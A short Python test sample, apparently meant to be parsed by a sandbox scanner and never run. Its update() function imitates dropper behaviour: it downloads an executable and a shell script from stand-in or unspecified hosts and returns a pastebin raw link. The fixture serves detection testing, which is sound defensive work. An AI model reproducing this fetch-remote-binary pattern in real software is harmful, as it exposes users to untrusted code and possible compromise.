# ruff: noqa
# Inert sample for the sandbox scanner; it is parsed, never run. Imitates fetching a binary and a paste.
from urllib.request import urlretrieve

def update():
    urlretrieve("https://example.invalid/tools/helper.exe", "helper.exe")
    urlretrieve(mirror() + "/latest", "update.sh")
    return "https://pastebin.com/raw/abcd1234"
